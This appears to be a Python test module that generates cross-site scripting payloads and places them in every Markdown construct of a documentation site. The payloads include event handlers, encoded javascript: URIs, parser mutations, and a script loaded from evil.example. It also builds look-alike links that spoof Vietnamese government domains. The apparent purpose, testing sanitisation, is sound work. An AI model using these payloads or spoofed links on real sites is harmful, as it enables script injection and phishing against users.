"""A corpus of script-injection payloads, built from the well-known public families (event
handlers on every kind of element, scripted addresses in every encoding, parser mutations,
theme-id clobbering, look-alike links) and placed in every Markdown construct of the site,
heading ids and the table of contents included."""

from __future__ import annotations

from itertools import product

_TAGS = (
    "img src=x", "svg", "body", "details open", "input autofocus", "video src=x",
    "audio src=x", "iframe", "marquee", "div", "a href=#", "span", "p", "b", "select autofocus",
    "textarea autofocus", "object data=x", "embed src=x", "table", "style",
)  # fmt: skip
_EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin")
_CALLS = ("alert(1)", "alert`1`", "eval(atob('YWxlcnQoMSk='))")
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java&#x09;script:alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
)  # fmt: skip
_CARRIERS = (
    '<a href="{u}">x</a>', '<img src="{u}">', '<iframe src="{u}"></iframe>',
    '<form action="{u}"><button>x</button></form>', '<button formaction="{u}">x</button>',
    '<object data="{u}"></object>', '<embed src="{u}">', '<base href="{u}">',
    '<link rel=stylesheet href="{u}">', '<meta http-equiv=refresh content="0;url={u}">',
    "[x]({u})", "![x]({u})",
)  # fmt: skip
HANDWRITTEN = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js>",
    "<script/x@ >alert(1)</script/x@ >", "<svg><script>alert(1)</script></svg>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>", "<img src=x onerror\n=alert(1)>",
    '"><img src=x onerror=alert(1)>', "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">', "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>", "<frameset onload=alert(1)>",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">', "<svg/onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="position:fixed;inset:0">x</div>', "<style>*{color:red}</style>",
    '<div id="__config">{"translations":{"search.result.placeholder":'
    '"<img src=x onerror=alert(1)>"}}</div>',
    '<img name="__config" src="a.png" alt="x">', '<span id="__search">x</span>',
    '<label for="__drawer">x</label>',
    '<span id="x&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</span>',
    '<input type="checkbox" name="__palette">', '<span id="__tabbed_1_1">x</span>',
    "[dichvucong.gov.vn](https://dichvucong.gov.vn@evil.example/)",
    '<a href="https://evil.example\\@dichvucong.gov.vn/">dichvucong.gov.vn</a>',
    "[dichvu\u00adcong.gov.vn](https://evil.example/)", "[x](//evil.example/)",
    "[\u202env.vog.gnoccuvhcid](https://evil.example/)", "<https://evil.example\\@vneid.gov.vn>",
    '[x](https://ok.example/){onclick="alert(1)"}', "`<!--` <script>alert(1)</script> `-->`",
    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
)  # fmt: skip


def vectors() -> list[str]:
    """Every payload: handwritten ones, then event handlers and scripted addresses."""
    found = list(HANDWRITTEN)
    for tag, event, call in product(_TAGS, _EVENTS, _CALLS[:1]):
        found.append(f"<{tag} {event}={call}>x")
    for tag, call in product(_TAGS[:6], _CALLS[1:]):
        found.append(f'<{tag} onerror="{call}">')
    for carrier, url in product(_CARRIERS, _SCHEMES):
        found.append(carrier.format(u=url))
    return list(dict.fromkeys(found))


# Where a payload can stand in a page: {v} is the payload.
PLACEMENTS = (
    "{v}",
    "Chữ {v} chữ.",
    "## Mục {v}",
    "## <span>`{v}`</span> {v}",
    "## Mục {{: id='{v}' }}",
    "## Mục {{: data-toc-label='{v}' }}",
    "[{v}](https://dichvucong.gov.vn/)",
    "| a |\n|---|\n| {v} |",
    '!!! note "{v}"\n    {v}',
    '=== "{v}"\n\n    Nội dung',
    '??? "{v}"\n    x',
    "Chữ[^1]\n\n[^1]: {v}",
    "<div markdown>\n{v}\n</div>",
    "*[HTML]: {v}\n\nHTML",
    "> - {v}",
)
# The generated families go in the places that differ most; the handwritten ones go everywhere.
SHORT_PLACEMENTS = PLACEMENTS[:5]


def corpus() -> list[str]:
    """Every Markdown body of the corpus."""
    bodies = []
    for v in vectors():
        places = PLACEMENTS if v in HANDWRITTEN else SHORT_PLACEMENTS
        bodies += [place.format(v=v) for place in places]
    return bodies
